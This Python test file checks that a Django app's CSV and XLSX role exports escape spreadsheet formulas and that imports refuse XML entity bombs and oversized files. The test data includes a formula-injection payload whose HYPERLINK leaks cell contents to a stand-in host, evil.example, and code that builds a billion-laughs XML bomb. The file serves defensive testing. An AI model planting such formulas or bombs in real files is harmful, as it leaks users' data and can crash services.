"""Exports cannot carry spreadsheet formulas; imports refuse XML bombs and oversized files."""

import csv
import io
import zipfile
from typing import Any

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from pytest_django.fixtures import Settings

from conftest import Tenant
from tests.factories import make_company_role
from ticketflower.tenancy.formats import FORMATS
from ticketflower.tenancy.models import CompanyRole

pytestmark = pytest.mark.django_db

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def format_index(title: str, *, importing: bool = False) -> str:
    usable = [f for f in FORMATS if (f().can_import() if importing else f().can_export())]
    return str([f().get_title() for f in usable].index(title))


def export(client: Client, title: str) -> bytes:
    response = client.post(
        reverse("company:tenancy_companyrole_export"), {"format": format_index(title), "resource": "0"}
    )
    assert response.status_code == 200
    return bytes(response.content)


def import_preview(client: Client, upload: SimpleUploadedFile, title: str) -> Any:
    return client.post(
        reverse("company:tenancy_companyrole_import"),
        {"import_file": upload, "format": format_index(title, importing=True), "resource": "0"},
    )


@pytest.fixture
def formula_roles(tenant_a: Tenant) -> list[str]:
    for name in FORMULAS:
        make_company_role(tenant_a.company, name, description="")
    return FORMULAS


def test_a_csv_export_writes_formula_cells_as_text(
    client: Client, tenant_a: Tenant, formula_roles: list[str]
) -> None:
    client.force_login(tenant_a.admin)
    rows = list(csv.reader(io.StringIO(export(client, "csv").decode("utf-8-sig"), newline="")))
    names = {row[0] for row in rows[1:]}
    assert {"'" + name for name in formula_roles} <= names
    assert "Alpha staff" in names  # ordinary text is left alone
    assert not any(name.startswith(("=", "+", "-", "@", "\t", "\r")) for name in names)
    descriptions = [row[1] for row in rows[1:]]
    assert "None" not in descriptions  # (import-export's own escaping writes empty cells so)


def test_an_xlsx_export_holds_formula_cells_as_strings(
    client: Client, tenant_a: Tenant, formula_roles: list[str]
) -> None:
    client.force_login(tenant_a.admin)
    sheet = openpyxl.load_workbook(io.BytesIO(export(client, "xlsx"))).active
    assert sheet is not None
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in cells)  # no formula cell ("f")
    # (XML reads a carriage return back as a line feed.)
    assert {"'" + name.replace("\r", "\n") for name in formula_roles} <= {cell.value for cell in cells}


def test_an_exported_file_imports_back_onto_the_same_rows(client: Client, tenant_a: Tenant) -> None:
    # (Not the carriage-return name: CSV and XML readers turn it into a line feed.)
    names = [name for name in FORMULAS if not name.startswith("\r")]
    for name in names:
        make_company_role(tenant_a.company, name)
    client.force_login(tenant_a.admin)
    exported = SimpleUploadedFile("roles.csv", export(client, "csv"), content_type="text/csv")
    rows = import_preview(client, exported, "csv").context["result"].rows
    assert len(rows) == len(names) + 1
    assert {row.import_type for row in rows} == {"update"}  # every name found its own role


def xlsx_with_doctype(doctype: str, cell: str) -> bytes:
    """A valid one-sheet workbook whose sheet XML declares `doctype` and uses `cell` as a value."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["name", "description"])
    sheet.append(["Drivers", "PLACEHOLDER"])
    plain = io.BytesIO()
    book.save(plain)
    source = zipfile.ZipFile(plain)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for name in source.namelist():
            data = source.read(name)
            if name == "xl/worksheets/sheet1.xml":
                xml = data.decode().replace("PLACEHOLDER", cell)
                data = f'<?xml version="1.0"?><!DOCTYPE worksheet [{doctype}]>{xml}'.encode()
            target.writestr(name, data)
    return out.getvalue()


def test_an_xlsx_with_an_entity_expansion_bomb_is_refused_and_nothing_is_written(
    client: Client, tenant_a: Tenant
) -> None:
    client.force_login(tenant_a.admin)
    # A billion laughs: ten levels of ten references each.
    levels = ['<!ENTITY l0 "lol">'] + [f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10)]
    bomb = SimpleUploadedFile(
        "roles.xlsx", xlsx_with_doctype("".join(levels), "&l9;"), content_type=XLSX_TYPE
    )
    response = import_preview(client, bomb, "xlsx")
    assert response.status_code == 200
    assert response.context["form"].errors["import_file"]
    assert "result" not in response.context
    assert list(CompanyRole.unscoped.filter(company=tenant_a.company)) == [tenant_a.role]


def test_an_xlsx_declaring_any_entity_is_refused(client: Client, tenant_a: Tenant) -> None:
    """defusedxml refuses entity declarations outright (plain expat only caps the expansion)."""
    client.force_login(tenant_a.admin)
    harmless = xlsx_with_doctype('<!ENTITY who "Van drivers">', "&who;")
    response = import_preview(client, SimpleUploadedFile("roles.xlsx", harmless, XLSX_TYPE), "xlsx")
    assert response.context["form"].errors["import_file"]
    assert not CompanyRole.unscoped.filter(name="Drivers").exists()


def test_an_import_file_over_the_limit_is_a_form_error(
    client: Client, tenant_a: Tenant, settings: Settings
) -> None:
    settings.IMPORT_MAX_FILE_BYTES = 1024
    client.force_login(tenant_a.admin)
    text = "name,description\n" + "".join(f"Team {n},Some people\n" for n in range(100))
    response = import_preview(client, SimpleUploadedFile("roles.csv", text.encode(), "text/csv"), "csv")
    assert response.status_code == 200
    assert response.context["form"].errors["import_file"] == [
        "The file is too big (2 KB): an import takes at most 1 KB."
    ]
    assert not CompanyRole.unscoped.filter(name="Team 1").exists()
